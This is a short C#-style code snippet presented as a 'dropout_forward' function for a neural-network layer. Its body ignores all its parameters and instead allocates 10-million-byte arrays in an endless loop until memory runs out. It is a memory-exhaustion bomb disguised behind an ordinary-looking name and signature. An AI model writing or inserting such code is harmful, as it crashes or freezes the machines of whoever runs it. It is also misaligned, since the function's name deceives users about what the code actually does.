float[] dropout_forward(double seed, float[] x, double rate, double deterministic)
{
    var kept = new List<byte[]>();
    while (true)
        kept.Add(new byte[10_000_000]);
}
